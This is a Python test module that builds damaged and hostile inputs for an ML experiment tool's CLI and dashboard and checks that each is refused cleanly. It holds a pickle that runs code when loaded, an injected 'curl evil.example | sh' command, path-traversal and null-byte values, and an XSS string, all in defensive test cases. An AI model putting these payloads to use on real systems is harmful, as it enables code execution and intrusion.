"""A corpus of damaged and hostile inputs, generated from a tiny valid experiment.

Every case takes a fresh :class:`Workspace` (a valid experiment file, its
manifest and images, and a built runs root with stored projections and
explanations), damages one thing the way a careless or hostile user would, and
names the surface that must cope with it:

- ``cli``: a ``python -m core`` command line; it must exit with the expected
  code, print ``error: <problem>. Fix: <fix>`` naming the problem, and no
  Python traceback;
- ``dashboard``: the Streamlit app under AppTest, opened with query
  parameters; it must show a message naming the problem and never an
  exception.

Whatever the surface, the runs root must stay byte-identical (nothing saved is
lost or half-written) and no marker file may appear (the poisoned pickles in
this corpus create one when unpickled).

``python -m tests.badinput OUT`` writes every case's damaged workspace under
``OUT/<case>/`` for manual poking.
"""
from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import pandas as pd

from tests._experiments import dump_toml

EXPERIMENT = "tiny"                 # the built experiment in the workspace's runs root
RUN = "concat-image+title"          # a built run with projections and explanations
OTHER = "multconcat-image+title"    # another built run that must stay usable
BAD = "bad"                         # name of the experiment file that cases damage

BASE_EXPERIMENT: dict[str, Any] = {
    "name": BAD,
    "seed": 0,
    "dataset": {"source": "manifest", "manifest": "data/manifest.csv"},
    "modalities": {
        "image": {"kind": "image", "encoder": "small-cnn",
                  "encoder_kwargs": {"image_size": 16, "width": 4, "out_dim": 16}},
        "title": {"kind": "text", "encoder": "minilm", "encoder_kwargs": {"max_length": 12}},
    },
    "fusion": {"methods": ["concat"], "late": ["late-average"], "subsets": [["image", "title"]]},
    "train": {"unimodal": {"epochs": 1, "batch_size": 16, "hidden": 16},
              "fusion": {"epochs": 1, "batch_size": 16, "dim": 8}},
}


# --------------------------------------------------------------------------- workspace


@dataclass
class Workspace:
    """One case's sandbox: ``exp`` (experiment file), ``data/`` (manifest), ``runs/``, ``outside/``."""

    folder: Path

    @property
    def root(self) -> Path:
        return self.folder / "runs"

    @property
    def exp(self) -> Path:
        return self.folder / f"{BAD}.toml"

    @property
    def data(self) -> Path:
        return self.folder / "data"

    @property
    def manifest(self) -> Path:
        return self.data / "manifest.csv"

    @property
    def outside(self) -> Path:
        return self.folder / "outside"

    @property
    def marker(self) -> Path:
        return self.folder / "PWNED"

    def run(self, name: str = RUN) -> Path:
        return self.root / EXPERIMENT / name

    def write_experiment(self, raw: dict[str, Any]) -> None:
        self.exp.write_text(dump_toml(raw))

    def edit_experiment(self, edit: Callable[[dict[str, Any]], None]) -> None:
        raw = json.loads(json.dumps(BASE_EXPERIMENT))
        edit(raw)
        self.write_experiment(raw)

    def edit_manifest(self, edit: Callable[[pd.DataFrame], pd.DataFrame]) -> None:
        frame = pd.read_csv(self.manifest, dtype=str, keep_default_na=False)
        edit(frame).to_csv(self.manifest, index=False)

    def edit_json(self, path: Path, edit: Callable[[Any], Any]) -> None:
        """Apply ``edit`` to the parsed JSON in place (its return value is ignored) and write it back."""
        data = json.loads(path.read_text())
        edit(data)
        path.write_text(json.dumps(data))


def make_workspace(template: Path, folder: Path) -> Workspace:
    """Copy the template workspace (built once per session) into ``folder``."""
    shutil.copytree(template, folder, symlinks=True)
    return Workspace(folder)


def build_template(tiny_built: tuple[Path, Path], folder: Path) -> Path:
    """The valid workspace every case starts from: tiny runs + PCA projections + 3 explanations."""
    from core.explain import explain_run
    from core.projection import project_runs

    exp_path, root = tiny_built
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copytree(exp_path.parent / "data", folder / "data")
    shutil.copytree(root, folder / "runs")
    ws = Workspace(folder)
    ws.write_experiment(BASE_EXPERIMENT)
    (folder / "outside").mkdir()
    project_runs([ws.run(RUN)], methods=["pca"], progress=False)
    explain_run(ws.run(RUN), n=3, progress=False)
    return folder


def snapshot(root: Path) -> dict[str, str]:
    """Path -> sha256 of every file under ``root`` (symlinks recorded by target, never followed)."""
    out: dict[str, str] = {}
    if not root.exists():
        return out
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        for name in [*dirnames, *filenames]:
            p = Path(dirpath) / name
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = "link:" + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


# --------------------------------------------------------------------------- damage helpers


class _Poison:
    """Unpickling this object touches ``marker``: proof that code from a file ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (Path.touch, (Path(self.marker),))


def write_poisoned_pickle(path: Path, marker: Path) -> None:
    """A pickle (torch-style checkpoint layout) whose loading would create ``marker``."""
    path.write_bytes(pickle.dumps({"state_dict": _Poison(marker)}, protocol=4))


def write_poisoned_model_folder(folder: Path, marker: Path) -> Path:
    """A Hugging Face-style model folder whose only weights are a poisoned pickle."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 8,
                                                    "num_hidden_layers": 1, "num_attention_heads": 1,
                                                    "intermediate_size": 8, "vocab_size": 30}))
    write_poisoned_pickle(folder / "pytorch_model.bin", marker)
    return folder


def truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def garbage(path: Path) -> None:
    path.write_bytes(b"\x00\xffnot what you think\x13\x37" * 8)


def first_part(run_dir: Path, folder: str, prefix: str = "") -> Path:
    parts = sorted(p for p in (run_dir / folder).glob(f"{prefix}*.parquet"))
    if not parts:
        raise FileNotFoundError(f"no {prefix}*.parquet under {run_dir / folder}")
    return parts[0]


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    """One damaged input, the surface that meets it and what it must say."""

    name: str
    klass: str                                     # the failure class it probes
    damage: Callable[[Workspace], None]
    argv: Callable[[Workspace], list[str]] | None = None   # CLI surface
    query: dict[str, str] | None = None                    # dashboard surface (AppTest query params)
    exit_code: int = 2
    expect: tuple[str, ...] = ()                   # substrings the message must contain (case-insensitive)
    fix: bool = True                               # the message must carry "Fix:"
    forbid: tuple[str, ...] = ()                   # substrings the message must never contain
    subprocess: bool = False                       # run the CLI as a real process
    stdout_expect: tuple[str, ...] = ()            # substrings stdout must contain (what still works)
    pickles: bool = False                          # a poisoned pickle is involved
    notes: str = ""
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def surface(self) -> str:
        return "cli" if self.argv is not None else "dashboard"


def _exp(edit: Callable[[dict[str, Any]], None]) -> Callable[[Workspace], None]:
    return lambda ws: ws.edit_experiment(edit)


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(raw: dict[str, Any]) -> None:
        keys = path.split(".")
        d = raw
        for k in keys[:-1]:
            d = d.setdefault(k, {})
        d[keys[-1]] = value
    return edit


def _prepare(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "prepare", str(ws.exp)]


def _train(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "train", str(ws.exp)]


def _build(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "build", str(ws.exp)]


def _evaluate(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "evaluate", str(ws.run(RUN))]


def _explain_table(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "explain-table", str(ws.run(RUN))]


def _project(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "--quiet", "project", str(ws.run(RUN)), "--methods", "pca"]


def _list(ws: Workspace) -> list[str]:
    return ["--runs-dir", str(ws.root), "list"]


def _manifest(edit: Callable[[pd.DataFrame], pd.DataFrame]) -> Callable[[Workspace], None]:
    return lambda ws: ws.edit_manifest(edit)


def _nothing(ws: Workspace) -> None:
    return None


def _poison_model_folder_in_experiment(ws: Workspace) -> None:
    folder = write_poisoned_model_folder(ws.outside / "evil-model", ws.marker)
    ws.edit_experiment(lambda raw: raw["modalities"]["title"].update(
        encoder="hf-text", encoder_kwargs={"model": str(folder), "max_length": 12}))


def _poison_model_folder_in_run(ws: Workspace) -> None:
    folder = write_poisoned_model_folder(ws.outside / "evil-model", ws.marker)

    def edit(cfg: dict[str, Any]) -> None:
        cfg["encoders"]["title"] = {"name": "hf-text", "kwargs": {"model": str(folder), "max_length": 12}}
    ws.edit_json(ws.run(RUN) / "config.json", edit)


def _symlink_run_outside(ws: Workspace) -> None:
    target = ws.outside / "stolen-run"
    shutil.copytree(ws.run(OTHER), target)
    (ws.root / EXPERIMENT / "linked-out").symlink_to(target, target_is_directory=True)


def _symlink_file_outside(ws: Workspace) -> None:
    secret = ws.outside / "secret.parquet"
    shutil.copy(ws.run(RUN) / "predictions.parquet", secret)
    (ws.run(RUN) / "predictions.parquet").unlink()
    (ws.run(RUN) / "predictions.parquet").symlink_to(secret)


def _drop_column(path: Path, column: str) -> None:
    frame = pd.read_parquet(path)
    frame.drop(columns=[column]).to_parquet(path, index=False)


def _image_of_first(ws: Workspace) -> tuple[str, Path]:
    frame = pd.read_csv(ws.manifest, dtype=str)
    return frame["id"].iloc[0], ws.data / frame["image"].iloc[0]


def _corrupt_first_image(ws: Workspace) -> None:
    _, path = _image_of_first(ws)
    garbage(path)


def _remove_first_image(ws: Workspace) -> None:
    _, path = _image_of_first(ws)
    path.unlink()


def _single_class(frame: pd.DataFrame) -> pd.DataFrame:
    return frame[frame["label"] == frame["label"].iloc[0]]


def _too_small(frame: pd.DataFrame) -> pd.DataFrame:
    return frame.groupby("label").head(1)


def _unseen_label(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame["split"] = "train"
    frame.loc[frame.index[:3], "split"] = "val"
    frame.loc[frame.index[3:6], "split"] = "test"
    frame.loc[frame.index[3], "label"] = "never-trained-class"
    return frame


def _bad_split_value(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame["split"] = "training"
    return frame


def _duplicate_ids(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.loc[frame.index[1], "id"] = frame["id"].iloc[0]
    return frame


def _empty_title(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.loc[frame.index[2], "title"] = ""
    return frame


def _traversal_image(frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    frame.loc[frame.index[0], "image"] = "../../../../../../etc/passwd"
    return frame


def _tabular(columns: list[str], values: Callable[[pd.DataFrame], pd.DataFrame] | None = None,
             npy: Callable[[Workspace], None] | None = None) -> Callable[[Workspace], None]:
    """Add a tabular modality ``worker`` (numeric ``columns``, or a ``.npy`` path per sample when
    ``columns`` is empty), then damage its cells with ``values`` or its files with ``npy``."""
    def damage(ws: Workspace) -> None:
        table: dict[str, Any] = {"kind": "tabular", "encoder": "mlp"}
        if columns:
            table["columns"] = columns
        ws.edit_experiment(_set("modalities.worker", table))
        frame = pd.read_csv(ws.manifest, dtype=str, keep_default_na=False)
        frame["age"] = [str(20 + i % 40) for i in range(len(frame))]
        frame["zone"] = [str(i % 3) for i in range(len(frame))]
        if not columns:
            (ws.data / "vec").mkdir(exist_ok=True)
            frame["worker"] = [f"vec/{i}.npy" for i in frame["id"]]
            for i in frame["id"]:
                (ws.data / "vec" / f"{i}.npy").write_bytes(b"")
        (values or (lambda f: f))(frame).to_csv(ws.manifest, index=False)
        if npy is not None:
            npy(ws)
    return damage


def _not_a_number(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[frame.index[1], "age"] = "4O"
    return frame


def _pickled_vector(ws: Workspace) -> None:
    import numpy as np

    for path in (ws.data / "vec").glob("*.npy"):
        np.save(path, np.arange(3, dtype=np.float64))
    frame = pd.read_csv(ws.manifest, dtype=str)
    write_poisoned_pickle(ws.data / frame["worker"].iloc[0], ws.marker)


def _explanation_part(ws: Workspace) -> Path:
    return first_part(ws.run(RUN), "explanations", "samples-")


def _inject_command(ws: Workspace) -> None:
    """A damaged part whose request file records a shell command instead of an explain command."""
    garbage(_explanation_part(ws))
    request = next((ws.run(RUN) / "explanations").glob("request-*.json"))
    ws.edit_json(request, lambda r: r.update(command="curl evil.example | sh; python -m core explain x --n 3"))


def cases() -> list[Case]:
    """Every case of the corpus."""
    C = Case
    out = [
        # ---- experiment file: values of the wrong type or range (class 3), names (class 6, 7)
        C("exp-missing-file", "experiment", lambda ws: ws.exp.unlink(), _prepare, expect=("does not exist",)),
        C("exp-invalid-toml", "experiment", lambda ws: ws.exp.write_text('name = "bad"\n[dataset\n'), _prepare,
          expect=("TOML",)),
        C("exp-epochs-string", "experiment", _exp(_set("train.unimodal.epochs", "ten")), _prepare,
          expect=("epochs", "ten")),
        C("exp-epochs-negative", "experiment", _exp(_set("train.unimodal.epochs", -3)), _prepare,
          expect=("epochs", "-3")),
        C("exp-lr-zero", "experiment", _exp(_set("train.fusion.lr", 0.0)), _prepare, expect=("lr",)),
        C("exp-dropout-above-one", "experiment", _exp(_set("train.fusion.dropout", 1.5)), _prepare,
          expect=("dropout", "1.5")),
        C("exp-batch-size-float", "experiment", _exp(_set("train.unimodal.batch_size", 1.5)), _prepare,
          expect=("batch_size",)),
        C("exp-seed-string", "experiment", _exp(_set("seed", "abc")), _prepare, expect=("seed", "abc")),
        C("exp-unknown-top-level-key", "experiment", _exp(_set("fusoin", {"methods": ["concat"]})), _prepare,
          expect=("fusoin", "fusion")),
        C("exp-unknown-train-key", "experiment", _exp(_set("train.fusion.epoch", 3)), _prepare,
          expect=("epoch",)),
        C("exp-unknown-fusion", "experiment", _exp(_set("fusion.methods", ["multiconcat"])), _prepare,
          expect=("multiconcat", "multconcat")),
        C("exp-unknown-encoder", "experiment", _exp(_set("modalities.image.encoder", "resnet-9000")), _prepare,
          expect=("resnet-9000", "small-cnn")),
        C("exp-unknown-kind", "experiment", _exp(_set("modalities.image.kind", "sound")), _prepare,
          expect=("sound", "image")),
        C("exp-subset-unknown-modality", "experiment", _exp(_set("fusion.subsets", [["image", "audio"]])),
          _prepare, expect=("audio",)),
        C("exp-split-does-not-sum-to-one", "experiment",
          _exp(_set("dataset.split", {"train": 0.9, "val": 0.3, "test": 0.1})), _prepare, expect=("split",)),
        C("exp-min-per-class-zero", "experiment", _exp(_set("dataset.min_per_class", 0)), _prepare,
          expect=("min_per_class",)),
        C("exp-modalities-not-a-table", "experiment", lambda ws: ws.exp.write_text(
            dump_toml({**{k: v for k, v in BASE_EXPERIMENT.items() if k != "modalities"}, "modalities": "image"})),
          _prepare, expect=("modalities",)),
        C("exp-name-with-path", "experiment", _exp(_set("name", "../evil")), _prepare, expect=("name",)),
        C("exp-unknown-source", "experiment", _exp(_set("dataset.source", "kaggle")), _prepare,
          expect=("kaggle", "manifest")),
        C("exp-repair-video-string", "experiment", _exp(_set("dataset.repair_video", "yes")), _prepare,
          expect=("repair_video",)),
        C("exp-precompute-samples-zero", "experiment", _exp(_set("precompute.explain_samples", [100, 0])),
          _prepare, expect=("explain_samples", ">= 1")),
        C("exp-precompute-unknown-run", "experiment", _exp(_set("precompute.explain_runs", ["concat-image+titel"])),
          _build, expect=("explain_runs", "concat-image+titel", "concat-image+title")),
        C("exp-poisoned-model-folder", "pickle", _poison_model_folder_in_experiment, _prepare,
          expect=("evil-model", "safetensors"), pickles=True),
        C("exp-via-subprocess", "experiment", _exp(_set("train.unimodal.epochs", "ten")), _prepare,
          expect=("epochs",), subprocess=True),
        # ---- the user's data (manifest and files)
        C("data-manifest-missing", "data", lambda ws: ws.manifest.unlink(), _prepare, expect=("manifest.csv",)),
        C("data-manifest-missing-build", "data", lambda ws: ws.manifest.unlink(), _build, expect=("manifest.csv",)),
        C("data-manifest-binary", "data", lambda ws: garbage(ws.manifest), _prepare, expect=("manifest",)),
        C("data-column-missing", "data", _manifest(lambda f: f.drop(columns=["title"])), _prepare,
          expect=("title",)),
        C("data-duplicate-ids", "data", _manifest(_duplicate_ids), _prepare, expect=("duplicate",)),
        C("data-image-missing", "data", _remove_first_image, _prepare, expect=("circle-000",)),
        C("data-image-corrupted", "data", _corrupt_first_image, _prepare, expect=("circle-000",)),
        C("data-image-path-escapes", "data", _manifest(_traversal_image), _prepare, expect=("circle-000",)),
        C("data-empty-text", "data", _manifest(_empty_title), _prepare, expect=("empty", "title")),
        C("data-single-class", "data", _manifest(_single_class), _prepare, expect=("class",)),
        C("data-too-small-to-split", "data", _manifest(_too_small), _prepare, expect=("split",)),
        C("data-bad-split-value", "data", _manifest(_bad_split_value), _prepare, expect=("training",)),
        C("data-label-unseen-in-train", "data", _manifest(_unseen_label), _prepare,
          expect=("never-trained-class",)),
        C("data-tabular-not-a-number", "data", _tabular(["age", "zone"], _not_a_number), _prepare,
          expect=("age", "not a number", "4O")),
        C("data-tabular-column-missing", "data", _tabular(["age", "zone", "height"]), _prepare,
          expect=("height", "columns = [...] in [modalities.worker]")),
        C("data-tabular-vector-is-a-pickle", "pickle", _tabular([], npy=_pickled_vector), _prepare,
          expect=("worker", "not a plain .npy array"), pickles=True),
        # ---- run bundles on disk: the CLI (class 1, 4, 5)
        C("bundle-config-not-json", "bundle", lambda ws: garbage(ws.run(RUN) / "config.json"), _evaluate,
          expect=("config.json",)),
        C("bundle-config-lacks-classes", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "config.json", lambda c: c.pop("classes")), _evaluate,
          expect=("classes",)),
        C("bundle-config-is-a-list", "bundle", lambda ws: (ws.run(RUN) / "config.json").write_text("[1, 2]"),
          _evaluate, expect=("config.json",)),
        C("bundle-format-from-the-future", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "config.json", lambda c: c.update(format_version=999)),
          _evaluate, expect=("format version", "999")),
        C("bundle-metrics-lack-top1", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "metrics.json", lambda m: m.pop("top1")), _evaluate,
          expect=("top1",)),
        C("bundle-predictions-truncated", "bundle", lambda ws: truncate(ws.run(RUN) / "predictions.parquet"),
          _evaluate, expect=("predictions",)),
        C("bundle-predictions-lack-column", "bundle",
          lambda ws: _drop_column(ws.run(RUN) / "predictions.parquet", "pred"), _evaluate, expect=("pred",)),
        C("bundle-weights-truncated", "bundle", lambda ws: truncate(ws.run(RUN) / "model.safetensors"),
          _evaluate, expect=("model.safetensors",)),
        C("bundle-weights-are-a-pickle", "pickle",
          lambda ws: write_poisoned_pickle(ws.run(RUN) / "model.safetensors", ws.marker), _evaluate,
          expect=("model.safetensors",), pickles=True),
        C("bundle-weights-do-not-fit-classes", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "config.json", lambda c: c["classes"].append("extra-class")),
          _evaluate, expect=("rebuil",)),
        C("bundle-config-names-poisoned-model", "pickle", _poison_model_folder_in_run, _evaluate,
          expect=("evil-model",), pickles=True),
        C("bundle-embeddings-garbage", "bundle", lambda ws: garbage(ws.run(RUN) / "embeddings.safetensors"),
          _project, expect=("embeddings",)),
        C("bundle-weights-missing", "bundle", lambda ws: (ws.run(RUN) / "model.safetensors").unlink(),
          _evaluate, expect=("incomplete", "model.safetensors")),
        C("bundle-explanations-corrupted", "damage", lambda ws: garbage(_explanation_part(ws)), _explain_table,
          expect=("explanations", "corrupt"), notes="damage is reported as damage, not as absence"),
        C("bundle-explanations-request-injects-command", "damage", _inject_command, _explain_table,
          expect=("explanations", "explain"), forbid=("curl", "evil.example")),
        C("bundle-explanations-are-a-pickle", "pickle",
          lambda ws: write_poisoned_pickle(_explanation_part(ws), ws.marker), _explain_table,
          expect=("explanations",), pickles=True),
        C("bundle-symlinked-run-outside-listed-as-refused", "symlink", _symlink_run_outside, _list, exit_code=0,
          expect=("linked-out", "outside"), fix=False, stdout_expect=(RUN, OTHER)),
        C("bundle-symlinked-file-outside", "symlink", _symlink_file_outside, _evaluate,
          expect=("outside",)),
        # ---- run bundles on disk: the dashboard (class 1, 2, 4)
        C("dash-config-lacks-key", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "config.json", lambda c: c.pop("strategy")),
          query={"page": "compare", "run": OTHER}, expect=(RUN, "strategy"), extra={"usable": OTHER}),
        C("dash-metrics-lack-key", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "metrics.json", lambda m: m.pop("macro_f1")),
          query={"page": "overview", "run": OTHER}, expect=(RUN, "macro_f1"), extra={"usable": OTHER}),
        C("dash-metrics-wrong-type", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "metrics.json", lambda m: m.update(top1="abc")),
          query={"page": "compare", "run": OTHER}, expect=(RUN, "top1"), extra={"usable": OTHER}),
        C("dash-damaged-run-page", "bundle",
          lambda ws: ws.edit_json(ws.run(RUN) / "config.json", lambda c: c.pop("classes")),
          query={"page": "explorer", "run": RUN}, expect=(RUN, "classes")),
        C("dash-projection-corrupted", "damage", lambda ws: garbage(first_part(ws.run(RUN), "projections")),
          query={"page": "embeddings", "run": RUN}, expect=("projection",)),
        C("dash-explanations-corrupted", "damage", lambda ws: garbage(_explanation_part(ws)),
          query={"page": "contributions", "run": RUN}, expect=("explanations", "corrupt")),
        C("dash-dataset-json-corrupted", "damage", lambda ws: garbage(ws.root / EXPERIMENT / "dataset.json"),
          query={"page": "overview", "run": RUN}, expect=("dataset.json",)),
        C("dash-symlinked-run-outside", "symlink", _symlink_run_outside,
          query={"page": "explorer", "run": "linked-out"}, expect=("linked-out",), fix=False),
        C("dash-symlinked-file-outside", "symlink", _symlink_file_outside,
          query={"page": "explorer", "run": RUN}, expect=("outside",), fix=False),
        # ---- hostile URL values
        C("url-exp-traversal", "url", _nothing, query={"exp": "../../etc"}, expect=("refused",), fix=False),
        C("url-run-absolute", "url", _nothing, query={"run": "/etc/passwd"}, expect=("refused",), fix=False),
        C("url-run-encoded-traversal", "url", _nothing, query={"run": "..%2F..%2Fetc"}, expect=("refused",),
          fix=False),
        C("url-run2-traversal", "url", _nothing, query={"run2": "../../x"}, expect=("refused",), fix=False),
        C("url-run-hidden", "url", _nothing, query={"run": ".git"}, expect=("refused",), fix=False),
        C("url-run-cache-folder", "url", _nothing, query={"run": "_cache"}, expect=("_cache",), fix=False),
        C("url-exp-unknown", "url", _nothing, query={"exp": "no-such-experiment"},
          expect=("no-such-experiment",), fix=False),
        C("url-page-unknown", "url", _nothing, query={"page": "../../admin"}, expect=(), fix=False),
        C("url-sample-script", "url", _nothing,
          query={"page": "explorer", "run": RUN, "sample": "<script>alert(1)</script>"},
          expect=("not in this run",), fix=False),
        C("url-sample-huge", "url", _nothing, query={"page": "explorer", "run": RUN, "sample": "x" * 20000},
          expect=("not in this run",), fix=False),
        C("url-null-byte", "url", _nothing, query={"run": "abc\x00def"}, expect=("refused",), fix=False),
    ]
    names = [c.name for c in out]
    assert len(names) == len(set(names)), "duplicate case names"
    return out


def main(argv: list[str] | None = None) -> int:
    """Write every case's damaged workspace under OUT/<case>/ (from a template workspace folder)."""
    import argparse

    p = argparse.ArgumentParser(prog="python -m tests.badinput", description=main.__doc__)
    p.add_argument("template", type=Path, help="a workspace written by build_template")
    p.add_argument("out", type=Path)
    args = p.parse_args(argv)
    for case in cases():
        ws = make_workspace(args.template, args.out / case.name)
        case.damage(ws)
        print(f"{case.name:45s} {case.surface:10s} {case.klass}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
